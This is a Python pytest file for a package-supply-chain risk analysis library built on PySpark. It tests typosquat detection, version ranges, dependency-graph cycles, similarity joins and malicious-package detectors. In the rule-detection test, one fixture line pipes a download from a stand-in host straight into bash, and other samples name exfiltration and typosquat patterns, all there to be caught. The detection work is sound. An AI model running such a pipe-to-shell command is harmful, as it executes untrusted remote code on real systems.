"""Boundary cases of functions and operators that the driver tables don't reach."""

import random

import pytest
from pyspark.sql import functions as F

from riskloom.functions import scalars as S
from riskloom.operators import graph, names, rules, scoring, setjoin, similarity, tables


def values(spark, rows, schema, *columns):
    return [tuple(r) for r in spark.createDataFrame(rows, schema).coalesce(1).select(*columns).collect()]


def test_rounding_and_levels(spark):
    x = F.col("x")
    got = values(spark, [(-2.5,), (2.5,), (79.5,), (-3.0,), (140.0,)], "x double", S.js_round(x), S.normalize_risk(x), S.risk_level(x))
    assert got == [(-2, 0, "none"), (3, 3, "low"), (80, 80, "high"), (-3, 0, "none"), (140, 100, "critical")]


def test_epss_ladders(spark):
    p = F.col("p")
    got = values(spark, [(None,), (0.39,), (0.40,), (0.5,), (0.51,), (0.75,), (0.76,), (0.90,), (0.91,)], "p double", *[S.epss_boost(p, k) for k in "abcd"])
    assert got == [(0, 0, 0, 0), (0, 0, 0, 0), (0, 5, 0, 0), (0, 5, 0, 0), (0, 5, 0, 8), (0, 5, 10, 8), (15, 15, 10, 15), (15, 15, 20, 15), (25, 25, 20, 25)]


def test_boosts_and_penalties(spark):
    rows = [(5, 0.9), (89, 0.6), (90, 0.5), (30, 0.25), (400, 0.04), (None, 0.5)]
    assert values(spark, rows, "d int, a double", S.deployment_modifier(F.col("d"), F.col("a"))) == [(0,), (-5,), (-10,), (-5,), (0,), (0,)]
    vectors = ["CVSS:3.1/AV:N/AC:L/C:H/I:N", "CVSS:3.1/AV:N/AC:H/C:H", "CVSS:3.1/AV:L/AC:L", "AV:P", None]
    assert values(spark, [(v,) for v in vectors], "v string", S.vector_severity(F.col("v"))) == [("CRITICAL",), ("HIGH",), ("MEDIUM",), ("LOW",), (None,)]


@pytest.mark.parametrize(
    ("version", "range_", "want"),
    [("1.2.3", "^1.2.0", True), ("2.0.0", "^1.2.0", False), ("0.3.5", "^0.3.1", True), ("0.4.0", "^0.3.1", False), ("1.2.9", "~1.2.3", True), ("1.3.0", "~1.2.3", False), ("1.5.0", ">=1.0.0 <2.0.0", True), ("2.0.0", ">=1.0.0 && <2.0.0", False), ("3.0.0", "1.0.0 || ^3.0.0", True), ("v1.0", "*", True), ("x", "^1.0.0", False), ("1.0.0", "latest", True), ("1.0.0-beta", "=1.0.0", True), ("1.0.0", "", True)],
)
def test_semver_ranges(spark, version, range_, want):
    assert values(spark, [(version, range_)], "v string, r string", S.semver_satisfies(F.col("v"), F.col("r"))) == [(want,)]


def test_versions(spark):
    rows = [("1", "0.9", "1.1"), ("2.0", "1.0", None), ("x", "1.0", "9.0"), ("1.5", "bad", "1.4"), ("1.5", None, None)]
    assert values(spark, rows, "v string, a string, b string", S.version_in_range(*map(F.col, "vab"))) == [(True,), (True,), (False,), (False,), (True,)]
    rows = [("1.2.0", "1.2"), ("1.10", "1.9.9"), ("1.2-b", "1.2"), ("1.2-b", "1.2-b"), (None, "1")]
    assert values(spark, rows, "v string, p string", S.is_version_patched(F.col("v"), F.col("p"))) == [(True,), (True,), (False,), (True,), (False,)]
    assert values(spark, [("1.0.0", "2.0.0"), ("1.0.0", "1.1.0"), ("1.0.0", "1.0.1"), ("a", "1.0.0")], "a string, b string", S.bump_type(F.col("a"), F.col("b"))) == [("major",), ("minor",), ("patch",), ("major",)]


def test_package_functions(spark):
    rows = [("sharp",), ("@swc/core-linux-x64-gnu",), ("x-darwin-arm64",), ("left-pad",)]
    assert values(spark, rows, "n string", S.is_native_name(F.col("n"))) == [(True,), (True,), (True,), (False,)]
    assert values(spark, [({"install": " "},), ({"postinstall": "x"},), ({"test": "x"},), (None,)], "s map<string,string>", S.has_install_script(F.col("s"))) == [(False,), (True,), (False,), (False,)]
    assert values(spark, [(["nan", "x"],), (["y"],)], "d array<string>", S.has_build_tool(F.col("d"))) == [(True,), (False,)]
    assert values(spark, [("numpy-1.0-cp311-cp311-win32.whl",)], "f string", S.wheel_tags(F.col("f"))["abi"]) == [("cp311",)]
    assert values(spark, [("GPL-2.0",), (" mit",), (None,), ("",)], "l string", S.bad_licence(F.col("l"))) == [(True,), (False,), (True,), (True,)]
    assert values(spark, [("key  npm_ABCDEFGHIJKLMNOP\nok",), ("a" * 300,)], "e string", S.redact(F.col("e"))) == [("key [REDACTED] ok",), ("[REDACTED]",)]
    assert values(spark, [("w " * 200,)], "e string", F.length(S.redact(F.col("e")))) == [(241,)]


def test_names(spark):
    popular = spark.createDataFrame([("lodash", 1), ("express", 2), ("react", 3)], "name string, ord int")
    cand = [("lodash",), ("@evil/lodash",), ("lo-dash",), ("l0dash",), ("lodahs",), ("expres",), ("ab",), ("unrelated",)]
    got = {r.candidate: (r.target, r.trick) for r in names.typosquats(spark.createDataFrame(cand, "name string"), popular).collect()}
    assert got == {"@evil/lodash": ("lodash", "scope-strip"), "lo-dash": ("lodash", "separator-variation"), "l0dash": ("lodash", "visual-substitution"), "lodahs": ("lodash", "edit-distance-2"), "expres": ("express", "edit-distance-1")}
    known = spark.createDataFrame([("crossenv", "npm", "cross-env")], "name string, ecosystem string, imitates string")
    pk = spark.createDataFrame([("crossenv", "npm"), ("lоdash", "npm"), ("reacts", "npm"), ("react-x", "npm"), ("core", "npm"), ("core", "pypi")], "name string, ecosystem string")
    found = {(r.name, r.target): r.risk_level for r in names.name_intelligence(pk, popular.withColumn("ecosystem", F.lit("npm")), known).collect()}
    assert found[("crossenv", "cross-env")] == "critical" and found[("lоdash", "lodash")] == "critical" and found[("reacts", "react")] == "high" and found[("core", "core")] == "high" and ("react-x", "react") not in found


def test_jaro_winkler(spark):
    """Half a swap counts, where DuckDB rounds swaps down."""
    rows = [("MARTHA", "MARHTA", 0.9611), ("DIXON", "DICKSONX", 0.8133), ("DWAYNE", "DUANE", 0.84), ("same", "same", 1.0), ("", "x", 0.0), (None, "x", None), ("large-gear", "larga-gaarx", 0.868)]
    assert values(spark, [r[:2] for r in rows], "a string, b string", F.round(names.jaro_winkler("a", "b"), 4)) == [(r[2],) for r in rows]


def test_near_names_equal_the_cross_join(spark, sf):
    base = [r[0].replace(" ", "-") for r in spark.read.parquet(f"{sf}/part.parquet").select("p_name").distinct().collect()]
    rows = [(b,) for b in base] + [(b[1:],) for b in base[:20]] + [(b + "xy",) for b in base[:20]]
    df = spark.createDataFrame(rows, "n string").distinct()
    every = df.select(F.col("n").alias("a")).crossJoin(df.select(F.col("n").alias("b"))).withColumn("d", F.levenshtein("a", "b")).filter("d between 1 and 2")
    assert {tuple(r) for r in names.near_names(df, df, "n", "n").collect()} == {tuple(r) for r in every.collect()}


def test_tables(spark):
    base = spark.createDataFrame([(1, "a"), (2, "b")], "k int, v string")
    new = spark.createDataFrame([(2, "b"), (3, None)], "k int, v string")
    assert {tuple(r) for r in tables.upsert_if_changed(base, new, ["k"], ["v"]).collect()} == {(1, "a", "kept"), (2, "b", "kept"), (3, None, "inserted")}
    assert {tuple(r) for r in tables.replace_children(base, spark.createDataFrame([(1, "x"), (1, "y")], "k int, v string"), "k").collect()} == {(1, "x"), (1, "y"), (2, "b")}


def test_scores(spark):
    assert values(spark, [("network", True, 5), ("network", False, 5)], "k string, d boolean, n int", scoring.signal_points(F.col("k"), F.col("d"), F.col("n"), scoring.BEHAVIOUR_POINTS)) == [(17,), (0,)]
    row = [(None, None, None, None, 0, 0, False), (0, 800, 1.0, 99, 6, 1, True)]
    schema = "commit_velocity_90d int, release_cadence_days int, contributor_turnover double, dependency_age_percentile int, circular_dep_count int, orphaned_dep_count int, license_deprecated boolean"
    got = scoring.health_score(spark.createDataFrame(row, schema).coalesce(1)).select("health_score", "health_level").collect()
    assert [tuple(r) for r in got] == [(0, "none"), (89, "critical")]


def brute_components(edges):
    """node -> greatest node that it reaches and that reaches it, for nodes on cycles."""
    after = {}
    for a, b in edges:
        after.setdefault(a, set()).add(b)

    def reach(a):
        seen, todo = set(), [a]
        while todo:
            for b in after.get(todo.pop(), ()):
                if b not in seen:
                    seen.add(b)
                    todo.append(b)
        return seen

    to = {a: reach(a) for a in {x for e in edges for x in e}}
    return {a: max(b for b in s if a in to[b]) for a, s in to.items() if a in s}


def brute_chains(edges, parts, most):
    """The least shortest cycle through each of the `most` least nodes on cycles, one for each set of nodes."""
    out = {}
    for start in sorted(parts)[:most]:
        seen, front, found = {start}, {start: (start,)}, None
        while front and not found:
            step = {}
            for a, way in front.items():
                for x, b in edges:
                    if x == a and parts.get(b) == parts[start]:
                        step[b] = min(step.get(b, (*way, b)), (*way, b))
            found = step.get(start)
            front = {b: w for b, w in step.items() if b not in seen}
            seen |= set(front)
        out.setdefault(tuple(sorted(found[1:])), (">".join(map(str, found)), len(found) - 1))
    return set(out.values())


def test_components_and_chains_against_all_ways(spark):
    r, rows, want, chains = random.Random(6), [], set(), set()
    for g in range(6):
        edges = {(r.randrange(40), r.randrange(40)) for _ in range([30, 45, 60, 80, 200, 5][g])} | ({(3, 3), (50, 50)} if g == 1 else set())
        rows += [(g, a, b) for a, b in edges]
        parts = brute_components(edges)
        want |= {(g, a, c) for a, c in parts.items()}
        chains |= {(g, *c) for c in brute_chains(edges, parts, 7)}
    e = spark.createDataFrame(rows, "graph_id int, src int, dst int").repartition(3)
    got = graph.cyclic_components(e)
    assert {tuple(x) for x in got.collect()} == want and got.count() == len(want) > 60
    assert {tuple(x) for x in graph.cycle_chains(e, got, 7).collect()} == chains
    none = e.filter("graph_id > 9")
    assert graph.cyclic_components(none).count() == graph.cycle_chains(none, graph.cyclic_components(none)).count() == 0


def test_chains_through_every_node(spark):
    """More nodes on cycles than fifty a graph: none is left out."""
    r, rows, want = random.Random(8), [], set()
    for g, n in enumerate((90, 150)):
        edges = {(r.randrange(n), r.randrange(n)) for _ in range(3 * n)} | {(1000 + i, 1000 + (i + 1) % 3) for i in range(3)}
        rows += [(g, a, b) for a, b in edges]
        parts = brute_components(edges)
        assert len(parts) > 60
        want |= {(g, *c) for c in brute_chains(edges, parts, None)}
    e = spark.createDataFrame(rows, "graph_id int, src int, dst int").repartition(3)
    assert {tuple(x) for x in graph.cycle_chains(e, graph.cyclic_components(e)).collect()} == want
    assert {(g, "1000>1001>1002>1000", 3) for g in (0, 1)} <= want


def test_graphs(spark):
    e = spark.createDataFrame([(1, "a", "b"), (1, "b", "c"), (1, "c", "a"), (1, "c", "d"), (2, "a", "b")], "graph_id int, src string, dst string")
    parts = graph.cyclic_components(e)
    assert {tuple(r) for r in parts.collect()} == {(1, "a", "c"), (1, "b", "c"), (1, "c", "c")}
    assert [r.chain for r in graph.short_cycles(e).collect()] == ["a>b>c"]
    assert [tuple(r) for r in graph.cycle_chains(e, parts).collect()] == [(1, "a>b>c>a", 3)]
    assert {(r.graph_id, r.impact) for r in graph.cycle_impact(e, parts).collect()} == {(1, 1.0), (2, 0.0)}
    assert {tuple(r) for r in graph.reachable(e, spark.createDataFrame([(2, "a")], "graph_id int, node string")).collect()} == {(2, "a", "b")}
    tree = [(1, f"n{i // 2}", f"n{i}") for i in range(1, 500) if i // 2]
    t = spark.createDataFrame(tree, "graph_id int, src string, dst string")
    assert graph.reachable(t, spark.createDataFrame([(1, "n1")], "graph_id int, node string")).count() == 498
    pairs = spark.createDataFrame([(1, 2), (2, 3), (9, 8), (3, 7)], "a int, b int")
    assert {tuple(r) for r in graph.clusters(pairs, "a", "b").collect()} == {(1, 1), (2, 1), (3, 1), (7, 1), (8, 8), (9, 8)}
    scored = spark.createDataFrame([(1, "n", "2.0.0", "c1", 100, 0), (1, "n", "2.0.0", "c2", 51, 1)], "graph_id int, node string, fix_version string, cve string, score int, n_blockers long")
    assert [tuple(r) for r in graph.patch_recommendations(scored).select("cves", "score", "has_blockers").collect()] == [("c1,c2", 76, True)]


def test_declared_blockers_are_upstream_blockers_that_declare(spark, monkeypatch):
    """Chains, a cycle and declarations without an edge; where all lie on edges, no ways are followed."""
    edges = spark.createDataFrame([(0, 1, 2), (0, 2, 3), (0, 3, 4), (0, 4, 2), (1, 1, 2), (1, 3, 2)], "graph_id int, src int, dst int")
    vulnerable = spark.createDataFrame([(0, 3), (0, 2), (1, 2)], "graph_id int, node int")
    ranges = spark.createDataFrame([(0, 2, 3), (0, 1, 3), (0, 9, 3), (0, 3, 3), (0, 3, 2), (1, 1, 2), (0, 3, 4)], "graph_id int, blocker int, node int")
    want = {tuple(x) for x in graph.upstream_blockers(edges, vulnerable).collect()} & {(g, n, b) for g, b, n in ranges.collect()}
    assert {tuple(x) for x in graph.declared_blockers(edges, vulnerable, ranges).collect()} == want and len(want) == 4
    monkeypatch.setattr(graph, "reachable", None)
    along = ranges.join(edges.selectExpr("graph_id", "src as blocker", "dst as node"), ["graph_id", "blocker", "node"])
    assert graph.declared_blockers(edges, vulnerable, along).count() == 2


def test_rules(spark):
    src = spark.createDataFrame([(1, "ok\ncurl -s https://x.test/a | bash -x\nend"), (2, "plain"), (3, None)], "id int, content string")
    hit = rules.rule_hits(src, "content", ["id"]).collect()
    assert [(r.id, r.rule, r.evidence) for r in hit] == [(1, "remote-shell-pipe", "curl -s https://x.test/a | bash -x")]
    f = spark.createDataFrame([(1, "installHook", "low", "t"), (2, "installHook", "medium", "t"), (1, "wiper", "high", "t")], "p int, category string, severity string, title string")
    got = rules.demote_trusted(f, spark.createDataFrame([(1,)], "p int"), "p")
    assert {(r.p, r.category, r.severity) for r in got.collect()} == {(1, "installHook", "info"), (2, "installHook", "medium"), (1, "wiper", "high")}
    got = values(spark, [(b"MZ\x00UPX!\r\nrest",), (b"\x05\x55\x05\x80",), (b"x\x60\x89\xe8PETITE\x00",), (b"MZ" * 300 + b"PEC4",)], "b binary", rules.packers(F.col("b")))
    assert got == [(["UPX", "UPX!"],), ([],), (["Petite", "ASPack"],), ([],)]


def test_cross_ecosystem_pairs_equal_all_pairs(spark):
    """Edits anywhere in names of 3 to 30 letters, against every pair."""
    r, made = random.Random(6), []
    for _ in range(60):
        name = "".join(r.choice("abcdefghijklmnop-") for _ in range(r.randint(3, 30))).strip("-") or "a"
        other = list(name)
        for _ in range(r.randint(0, 4)):
            i = r.randrange(len(other))
            other[i] = r.choice("abcxyz") + r.choice(["", "", other[i]])
        made += [("npm", name), ("pypi", "".join(other))]
    made += [("npm", "abcdefghijklmnopqrst"), ("pypi", "abXdefghijklmnoYqrZt"), ("npm", "left-pad"), ("pypi", "left-pad"), ("pypi", "")]
    p = spark.createDataFrame(made, "ecosystem string, base_name string")
    got = {(x.a, x.b): x.similarity for x in names.cross_ecosystem_pairs(p).collect()}
    each = p.select("ecosystem", S.cross_name(F.col("base_name")).alias("x")).distinct()
    both = each.filter("ecosystem = 'npm'").select(F.col("x").alias("a")).join(F.broadcast(each.filter("ecosystem = 'pypi' and x <> ''").select(F.col("x").alias("b"))))
    want = both.withColumn("s", F.greatest(names.similarity(F.col("a"), F.col("b")), names.jaro_winkler("a", "b"))).filter("s >= 0.85").select("a", "b", F.round("s", 4).alias("s")).collect()
    assert got == {(x.a, x.b): x.s for x in want} and len(want) > 30


def jaccard(a, b):
    return int(len(a & b) * 100 / len(a | b) + 0.5) if a and b else 0


def test_similar_bytes_equal_all_pairs(spark):
    r = random.Random(9)
    base = "the quick brown fox jumps over the lazy dog and runs away from here"
    texts = [base, base, base + "!", "nothing alike 0123456789", base[:-2], "", "", "a", None]
    for _ in range(60):
        t = list(r.choice([base, base[::-1], "".join(r.choice("abcdef ") for _ in range(80))]))
        for _ in range(r.randint(0, 5)):
            t[r.randrange(len(t))] = r.choice("xyz#")
        texts.append("".join(t))
    rows = [(i, i % 2, r.choice("pqr"), None if t is None else t.encode()) for i, t in enumerate(texts)]
    df = spark.createDataFrame(rows, "artifact_id int, ecosystem int, package string, data binary").repartition(3)
    grams = [{t[k : k + 2] for k in range(len(t or "") - 1)} for t in texts]
    want = set()
    for i, e, p, d in rows:
        others = [(x[3] == d, jaccard(grams[i], grams[x[0]])) for x in rows if x[1] == e and x[2] != p and x[3] is not None]
        exact, near = sum(x for x, _ in others), sum(not x and s >= 85 for x, s in others)
        if d is not None:
            want.add((i, min(x[0] for x in rows if x[1] == e and x[3] == d), exact, near, "exact" if exact else "near" if near else None))
    assert {tuple(x) for x in setjoin.similar_bytes(df).collect()} == want and sum(x[3] > 0 for x in want) > 20
    assert setjoin.similar_bytes(df.limit(0)).count() == 0


@pytest.mark.parametrize("least", [60, 85, 100])
def test_similar_sets_equal_all_pairs(spark, least):
    r, rows = random.Random(least), []
    for i in range(80):
        items = set(r.sample(range(12), r.randint(0, 8))) | ({100 + i} if i % 3 else set())
        rows.append((f"b{i % 2}", i, sorted(items), len(items)))
    rows += [(b, 200 + i, x, n) for b, i, x, n in rows[:20]]
    df = spark.createDataFrame(rows, "block string, key int, items array<int>, n int").repartition(3)
    want = {(x[1], y[1], s) for x in rows for y in rows if x[0] == y[0] and x[1] < y[1] and (s := jaccard(set(x[2]), set(y[2]))) >= least}
    assert {tuple(x) for x in setjoin.similar_sets(df, least).collect()} == want and want


def _brute_near(rows, held, least):
    members = {k: [(p, m) for h, p, m in held if h == k] for _, k, _, _ in rows}
    want = {}
    for b, k, x, n in rows:
        alike = [y[1] for y in rows if y[0] == b and n and y[3] and jaccard(set(x), set(y[2])) >= least]
        for p, _ in members[k] if n else ():
            want[k, p] = sum(m for o in alike for q, m in members[o] if q != p)
    return want


@pytest.mark.parametrize("least", [60, 85])
def test_near_elsewhere_over_many_tiles(spark, monkeypatch, least):
    """Counts, not pairs: every pair of tiles that sizes allow is compared, and tiles and blocks of one size are dealt out."""
    monkeypatch.setattr(setjoin, "LEAST_TILE", 9)
    monkeypatch.setattr(setjoin, "MOST_TILE", 9)
    monkeypatch.setattr(setjoin, "similar_sets", None)
    r, rows = random.Random(least), []
    for i in range(120):
        items = set(r.sample(range(12), r.choice([0, 3, 8, 9, 10]))) | ({2**40 + i} if i % 3 else set())
        rows.append((f"b{i % 2}", f"k{i}", sorted(items), len(items)))
    held = [(k, p, r.randint(1, 3)) for _, k, _, _ in rows for p in r.sample("pqr", r.randint(1, 3))]
    sets = spark.createDataFrame(rows, "block string, key string, items array<long>, n int").repartition(3)
    got = setjoin.near_elsewhere(sets, spark.createDataFrame(held, "key string, package string, m int"), least)
    want = _brute_near(rows, held, least)
    assert {(k, p): n for k, p, n in got.collect()} == want and sum(n > 0 for n in want.values()) > 20


@pytest.mark.parametrize("own", [True, False])
def test_tiles_are_compared_in_steps(monkeypatch, own):
    import pyarrow as pa

    monkeypatch.setattr(setjoin, "ROWS", 7)
    monkeypatch.setattr(setjoin, "ITEMS", 5)
    r, rows = random.Random(3), []
    for i in range(60):
        items = sorted(r.sample(range(14), r.choice([1, 6, 8, 9])))
        rows.append({"pair": 0, "side": 0 if own else i % 2, "n": len(items), "items": items, "held": [{"hid": 3 * i + p, "package": p, "m": r.randint(1, 3)} for p in r.sample(range(3), r.randint(1, 3))]})
    want = {}
    for x in rows:
        for h in x["held"]:
            want[h["hid"]] = sum(g["m"] for y in rows if (own or x["side"] != y["side"]) and jaccard(set(x["items"]), set(y["items"])) >= 70 for g in y["held"] if g["package"] != h["package"])
    got = setjoin._compared(70)(pa.Table.from_pylist(rows)).to_pylist()
    assert {x["hid"]: x["near"] for x in got} == want and any(want.values())


@pytest.mark.parametrize("own", [True, False])
@pytest.mark.parametrize("least", [60, 85])
def test_tiles_are_projected_first(monkeypatch, own, least):
    """No link is lost by the bound, and few of the pairs that aren't alike are counted item by item."""
    import pyarrow as pa

    for k, v in {"PROJECTED": 1, "DIRECTIONS": 40, "FEW": 8, "SAMPLE": 64, "ROWS": 32, "HEAD": 64, "ITEMS": 64, "STEP": 5}.items():
        monkeypatch.setattr(setjoin, k, v)
    r, rows, counted = random.Random(least), [], []
    centres = [r.sample(range(300), 60) for _ in range(4)]
    for i in range(240):
        items = set(r.sample(centres[i % 4], r.randint(45, 60))) | set(r.sample(range(300 * 2**33, 300 * 2**33 + 80), r.randint(0, 3)))
        rows.append({"pair": 0, "side": 0 if own else i // 4 % 2, "n": len(items), "items": sorted(items), "held": [{"hid": 3 * i + p, "package": p, "m": r.randint(1, 3)} for p in r.sample(range(3), r.randint(1, 3))]})
    alike = [(x, y) for x in rows for y in rows if (own or x["side"] != y["side"]) and jaccard(set(x["items"]), set(y["items"])) >= least]
    want = {h["hid"]: 0 for x in rows for h in x["held"]}
    for x, y in alike:
        for h in x["held"]:
            want[h["hid"]] += sum(g["m"] for g in y["held"] if g["package"] != h["package"])
    rest = setjoin._alike_rows
    monkeypatch.setattr(setjoin, "_alike_rows", lambda a, b, lo, hi, r, *more: counted.append(len(r)) or rest(a, b, lo, hi, r, *more))
    got = setjoin._compared(least)(pa.Table.from_pylist(rows)).to_pylist()
    assert {x["hid"]: x["near"] for x in got} == want and len(alike) > 200
    every = 240 * 241 / 2 if own else 120 * 120
    assert 0 < sum(counted) < 0.4 * every


@pytest.mark.parametrize("top", [3, 50])
def test_most_alike_equal_all_pairs(spark, top):
    r = random.Random(top)
    rows = [(i, f"e{i % 2}", *[r.choice(["", None, *range(n)]) for n in (2, 5, 9)]) for i in range(70)]
    rows = [(i, e, *[None if x is None else str(x) for x in s]) for i, e, *s in rows]
    df = spark.createDataFrame(rows, "artifact_id int, ecosystem string, a string, b string, c string").repartition(3)
    want = {}
    for i, e, *s in rows:
        found = [(sum(bool(x) and x == y for x, y in zip(s, o[2:], strict=True)), o[0]) for o in rows if o[0] != i and o[1] == e]
        want[i] = sorted((x for x in found if x[0]), key=lambda x: (-x[0], x[1]))[:top]
    got = {x.artifact_id: [(m.score, m.artifact_id) for m in x.matches] for x in setjoin.most_alike(df, ("a", "b", "c"), top).collect()}
    assert got == want


def test_detectors(spark):
    from riskloom.operators import detectors

    got = values(spark, [(["GET https://x", "eval(1)"],), ([],)], "s array<string>", detectors.token_hints(F.col("s")))
    assert got == [(["network", "obfuscation"],), ([],)]
    df = spark.createDataFrame([(1, ["upload token"]), (2, ["upload token", "curl x"])], "id int, s array<string>")
    shown = {(r.id, r.behaviour) for r in detectors.string_behaviours(df, "s", ["id"]).collect()}
    assert (1, "dataExfiltration") not in shown and (2, "dataExfiltration") in shown
    t, f, n = F.lit(True), F.lit(False), F.lit(None).cast("boolean")
    scores = spark.range(1).select(detectors.provenance_risk(t, t, t, t, t), detectors.provenance_risk(f, f, f, f, f), detectors.provenance_risk(n, n, n, n, n)).first()
    assert tuple(scores) == (0, 100, 45)
    r = detectors.Registry()
    r.add_python("bad", lambda row: 1 / 0)
    r.add_python("big", lambda row: (row["n"] > 1, 0.9, ["n"]))
    out = {(x.artifact_id, x.detector): (x.detected, x.signals) for x in r.run(spark.createDataFrame([(1, 1), (2, 2)], "artifact_id long, n int")).collect()}
    assert out == {(1, "bad"): (False, ["error: ZeroDivisionError"]), (2, "bad"): (False, ["error: ZeroDivisionError"]), (1, "big"): (False, ["n"]), (2, "big"): (True, ["n"])}
    detectors.register(spark)
    rows = spark.sql("SELECT p.* FROM VALUES ('Flask_X==1.0\\n# no\\nplain') AS v(c), LATERAL parse_requirements(v.c) p").collect()
    assert [tuple(x) for x in rows] == [("flask-x", "1.0"), ("plain", "unknown")]


def test_package_imports_without_the_corpus_operators(tmp_path):
    import os
    import shutil
    import subprocess
    import sys

    root = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
    shutil.copytree(os.path.join(root, "riskloom"), tmp_path / "riskloom", ignore=shutil.ignore_patterns("llm", "__pycache__"))
    shutil.copy(os.path.join(root, "__spark_entry__.py"), tmp_path)
    code = "import __spark_entry__ as e; assert 'a1_dashboard_kpis' in e.queries() and 'pipeline' not in e.queries() and not any(q.startswith('op') for q in e.queries()), e.queries().keys()"
    subprocess.run([sys.executable, "-c", code], cwd=tmp_path, check=True, env={**os.environ, "PYTHONPATH": str(tmp_path)})


def test_manifest_findings_and_scores(spark):
    from riskloom.operators import manifest

    df = spark.createDataFrame
    hits = df([(1, "wiper", "critical", "t", "a.js"), (1, "wiper", "critical", "t", "b.js"), (1, "wiper", "low", "t", "b.js"), (4, "other", "low", "t", "x")], "package_id int, category string, severity string, title string, file string")
    packages = df([(1, "npm", "left-pad"), (2, "pypi", "q"), (3, "npm", "lodahs"), (4, "npm", "own-thing"), (5, "pypi", "r")], "package_id int, ecosystem string, name string")
    hooks = df([(1, "install", "x"), (3, "test", "x"), (4, "prepare", ""), (2, "install", "x")], "package_id int, hook string, body string")
    commands = df([(3, "GIT"), (3, "npm"), (2, "git")], "package_id int, command string")
    native = df([(2, "b/x.so"), (2, "a/y.pyd"), (1, "z.so"), (5, "z.txt")], "package_id int, path string")
    setups, trusted = df([(2,), (1,)], "package_id int"), df([(1,)], "package_id int")
    popular = df([("lodash", 1), ("left-pad", 2)], "name string, ord int")
    found = manifest.manifest_findings(hits, packages, hooks, commands, native, setups, popular, trusted)
    assert {tuple(x) for x in found.select("package_id", "category", "severity", "file").collect()} == {
        (1, "wiper", "critical", "a.js"), (1, "wiper", "critical", "b.js"), (4, "other", "low", "x"), (1, "installHook", "info", "package.json#scripts"), (2, "installHook", "low", "setup.py"),
        (2, "pythonBinaryExtension", "medium", "a/y.pyd"), (3, "dependencyConfusion", "high", "package.json#bin"), (3, "dependencyConfusion", "high", "package.json#name"),
    }
    context = df([(2, 0.95, True, "widespread", "high", 100, 0.9), (5, None, None, None, None, None, None)], "package_id int, percentile double, kev boolean, maturity string, patch_confidence string, days int, adoption double")
    got = {x.package_id: (x.n_findings, x.score, x.risk_level) for x in manifest.manifest_scores(packages, found, context, df([(5,)], "package_id int")).collect()}
    assert got == {1: (3, 100, "critical"), 2: (2, 53, "medium"), 3: (2, 82, "critical"), 4: (1, 8, "low"), 5: (0, 100, "critical")}
